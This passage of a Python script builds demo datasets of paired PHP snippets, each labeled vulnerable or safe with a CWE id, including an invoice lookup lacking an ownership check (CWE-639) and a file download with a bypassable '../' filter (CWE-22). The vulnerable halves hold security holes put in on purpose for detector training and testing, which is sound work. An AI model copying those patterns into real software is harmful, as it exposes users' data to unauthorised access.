    $feed = simplexml_load_string(file_get_contents($feedUrl));
    foreach ($feed->channel->item as $item) {
        printf("<li>%s</li>\n", htmlspecialchars((string) $item->title));
    }
""")

pair("php", "CWE-639", r"""
    <?php
    require_login();
    $id = filter_var($_GET['id'] ?? '', FILTER_VALIDATE_INT, ['options' => ['min_range' => 1]]);
    if ($id === false) {
        http_response_code(400);
        exit('invalid invoice id');
    }
    $stmt = $pdo->prepare('SELECT number, amount, due_date, pdf_path FROM invoices WHERE id = ?');
    $stmt->execute([$id]);
    $invoice = $stmt->fetch(PDO::FETCH_ASSOC);
    if (!$invoice) {
        http_response_code(404);
        exit;
    }
    readfile($invoice['pdf_path']);
""", r"""
    <?php
    require_login();
    $stmt = $pdo->prepare(
        'SELECT number, amount, due_date, pdf_path FROM invoices WHERE id = ? AND customer_id = ?'
    );
    $stmt->execute([(int) $_GET['id'], $_SESSION['customer_id']]);
    $invoice = $stmt->fetch(PDO::FETCH_ASSOC);
    if (!$invoice) {
        http_response_code(404);
        exit;
    }
    readfile($invoice['pdf_path']);
""", split="test")

pair("php", "CWE-22", r"""
    <?php
    $file = $_GET['file'] ?? '';
    $file = str_replace('../', '', $file);
    if ($file === '' || substr($file, -4) !== '.csv') {
        http_response_code(404);
        exit;
    }
    $path = '/var/app-data/exports/' . $file;
    if (!is_file($path)) {
        http_response_code(404);
        exit;
    }
    header('Content-Type: text/csv');
    readfile($path);
""", r"""
    <?php
    $base = realpath('/var/app-data/exports');
    $path = realpath($base . '/' . ($_GET['file'] ?? ''));
    if ($path === false || !str_starts_with($path, $base . DIRECTORY_SEPARATOR) || !is_file($path)) {
        http_response_code(404);
        exit;
    }
    header('Content-Type: text/csv');
    readfile($path);
""")


# ---------------------------------------------------------------------------
# assembly
# ---------------------------------------------------------------------------

GIVEAWAY = re.compile(r"vuln|bad|unsafe|fixed|secure", re.IGNORECASE)
CORPUS_WORDS = (60, 150)


def corpus_records(items: list[tuple[str, str, str]]) -> list[dict[str, Any]]:
    """Document records, checked for length."""
    records = []
    for topic, ref, text in items:
        n = words(text)
        if not CORPUS_WORDS[0] <= n <= CORPUS_WORDS[1]:
            raise ValueError(f"corpus paragraph {ref!r} has {n} words, want {CORPUS_WORDS}")
        records.append({"text": text, "source": SOURCE, "meta": {"topic": topic, "ref": ref}})
    return records


def code_records(split: str) -> list[dict[str, Any]]:
    """Example records of one split; pairs stay adjacent, in a seeded order."""
    rng = random.Random(f"{SEED}-{split}")
    chosen = [(i, item) for i, item in enumerate(PAIRS, start=1) if item[4] == split]
    rng.shuffle(chosen)
    records = []
    for index, (language, cwe, vulnerable, safe, _) in chosen:
        for text in (vulnerable, safe):
            hit = GIVEAWAY.search(text)
            if hit:
                raise ValueError(f"pair {index} ({cwe}, {language}) contains giveaway {hit.group()!r}")
        group = f"demo-pair-{index:03d}"
        meta = {"cwe": cwe, "language": language}
        members = [("vulnerable", vulnerable), ("safe", safe)]
        if rng.random() < 0.5:
            members.reverse()
        records += [{"text": text, "label": label, "group": group, "meta": dict(meta)} for label, text in members]
    return records


def build() -> dict[str, list[dict[str, Any]]]:
    """Every demo file's records, by file name."""
    return {
        "corpus.train.jsonl": corpus_records(CORPUS_TRAIN),
        "corpus.test.jsonl": corpus_records(CORPUS_TEST),
        "instructions.train.jsonl": INSTRUCTIONS_TRAIN,
        "instructions.test.jsonl": INSTRUCTIONS_TEST,
        "vuln-code.train.jsonl": code_records("train"),
        "vuln-code.test.jsonl": code_records("test"),
    }


def render(records: list[dict[str, Any]]) -> str:
    """JSON lines, one record a line, UTF-8 text kept readable."""
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def main(argv: list[str] | None = None) -> int:
    """Write (or, with ``--check``, verify) the demo files; returns an exit code."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="fail if the files differ from the script")
    parser.add_argument("--out", type=Path, default=OUT_DIR, help="output folder")
    args = parser.parse_args(argv)
    stale = []
    for name, records in build().items():
        text = render(records)
        path = args.out / name
        if args.check:
            if not path.is_file() or path.read_text(encoding="utf-8") != text:
                stale.append(name)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        sys.stdout.write(f"{path}: {len(records)} records\n")
    if stale:
        sys.stderr.write("stale demo files (run tools/make_demo_data.py): " + ", ".join(stale) + "\n")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
